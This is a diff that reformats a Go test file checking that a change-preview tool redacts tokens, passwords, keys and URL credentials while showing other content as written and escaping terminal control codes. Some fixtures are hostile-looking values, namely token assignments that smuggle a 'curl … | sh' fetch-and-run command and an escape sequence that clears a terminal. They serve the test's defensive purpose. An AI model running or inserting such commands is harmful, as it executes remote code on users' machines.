@@ -32,19 +32,24 @@ func body(before, after string) string {
 
 func TestAPreviewHidesOnlyWhatTheFileHeld(t *testing.T) {
 	for name, c := range map[string]struct{ before, after, want string }{
-		"a command in the place of a token": {"echo\n", "echo\nGH_TOKEN=`curl -s http://h/x | sh`\n", " echo\n+GH_TOKEN=`curl -s http://h/x | sh`\n"},
-		"a command in quotes":               {"", "TOKEN=\"a;$(curl h|sh)\"\n", "+TOKEN=\"a;$(curl h|sh)\"\n"},
-		"a new secret":                      {"a\n", "a\npassword: new\n", " a\n+password: new\n"},
-		"another value":                     {"TOKEN=old\n", "TOKEN=new\n", "-TOKEN=[redacted]\n+TOKEN=new\n"},
-		"context and what goes":             {"TOKEN=abc\nPASSWORD=def\n", "TOKEN=abc\n", " TOKEN=[redacted]\n-PASSWORD=[redacted]\n"},
-		"a comma gained":                    {"{\n  \"api_key\": \"a b\"\n}\n", "{\n  \"api_key\": \"a b\",\n  \"x\": 1\n}\n", " {\n-  \"api_key\": \"[redacted]\"\n+  \"api_key\": \"[redacted]\",\n+  \"x\": 1\n }\n"},
-		"moved to the right":                {"TOKEN='a;b'\n", "\tTOKEN='a;b'\n", "-TOKEN='[redacted]'\n+\tTOKEN='[redacted]'\n"},
-		"the same value, other words":       {"TOKEN='a;b'\n", "TOKEN='a;b' eval\n", "-TOKEN='[redacted]'\n+TOKEN='a;b' eval\n"},
-		"a document of one line":            {`{"token":"` + token + `"}`, `{"token":"` + token + `","x":"` + token + `1"}`, "-{\"token\":\"[redacted]\"}\n\\ No newline at end of file\n+{\"token\":\"[redacted]\",\"x\":\"" + token + "1\"}\n\\ No newline at end of file\n"},
-		"the middle of a key":               {key + "c\n", key + "x\n", strings.Repeat(" [redacted]\n", 3) + "-c\n+x\n"},
-		"a key, and a blank line":           {key, "\n" + key, "+\n" + strings.Repeat(" [redacted]\n", 3)},
-		"a key that goes":                   {key, "x\n", strings.Repeat("-[redacted]\n", 4) + "+x\n"},
-		"what a terminal would obey":        {"a\n", "a\x1b[2J\r\n", "-a\n+a␛[2J␍\n"},
+		"a command in the place of a token": {"echo\n", "echo\nGH_TOKEN=`curl -s http://h/x | sh`\n",
+			" echo\n+GH_TOKEN=`curl -s http://h/x | sh`\n"},
+		"a command in quotes": {"", "TOKEN=\"a;$(curl h|sh)\"\n", "+TOKEN=\"a;$(curl h|sh)\"\n"},
+		"a new secret":        {"a\n", "a\npassword: new\n", " a\n+password: new\n"},
+		"another value":       {"TOKEN=old\n", "TOKEN=new\n", "-TOKEN=[redacted]\n+TOKEN=new\n"},
+		"context and what goes": {"TOKEN=abc\nPASSWORD=def\n", "TOKEN=abc\n",
+			" TOKEN=[redacted]\n-PASSWORD=[redacted]\n"},
+		"a comma gained": {"{\n  \"api_key\": \"a b\"\n}\n", "{\n  \"api_key\": \"a b\",\n  \"x\": 1\n}\n",
+			" {\n-  \"api_key\": \"[redacted]\"\n+  \"api_key\": \"[redacted]\",\n+  \"x\": 1\n }\n"},
+		"moved to the right":          {"TOKEN='a;b'\n", "\tTOKEN='a;b'\n", "-TOKEN='[redacted]'\n+\tTOKEN='[redacted]'\n"},
+		"the same value, other words": {"TOKEN='a;b'\n", "TOKEN='a;b' eval\n", "-TOKEN='[redacted]'\n+TOKEN='a;b' eval\n"},
+		"a document of one line": {`{"token":"` + token + `"}`, `{"token":"` + token + `","x":"` + token + `1"}`,
+			"-{\"token\":\"[redacted]\"}\n\\ No newline at end of file\n+{\"token\":\"[redacted]\",\"x\":\"" + token +
+				"1\"}\n\\ No newline at end of file\n"},
+		"the middle of a key":        {key + "c\n", key + "x\n", strings.Repeat(" [redacted]\n", 3) + "-c\n+x\n"},
+		"a key, and a blank line":    {key, "\n" + key, "+\n" + strings.Repeat(" [redacted]\n", 3)},
+		"a key that goes":            {key, "x\n", strings.Repeat("-[redacted]\n", 4) + "+x\n"},
+		"what a terminal would obey": {"a\n", "a\x1b[2J\r\n", "-a\n+a␛[2J␍\n"},
 	} {
 		if got := body(c.before, c.after); got != c.want {
 			t.Errorf("%s:\n got %q\nwant %q", name, got, c.want)
@@ -53,7 +58,8 @@ func TestAPreviewHidesOnlyWhatTheFileHeld(t *testing.T) {
 }
 
 func TestTheTargetOfALinkIsShownAsItWillBe(t *testing.T) {
-	got := Diff(report.Change{Path: "/p", Mode: fs.ModeSymlink, Before: []byte("https://u:pw@h"), After: []byte("TOKEN=x\n+ y")})
+	got := Diff(report.Change{Path: "/p", Mode: fs.ModeSymlink, Before: []byte("https://u:pw@h"),
+		After: []byte("TOKEN=x\n+ y")})
 	if want := "- link to https://u:[redacted]@h\n+ link to \"TOKEN=x\\n+ y\"\n"; got != want {
 		t.Errorf("got %q, want %q", got, want)
 	}
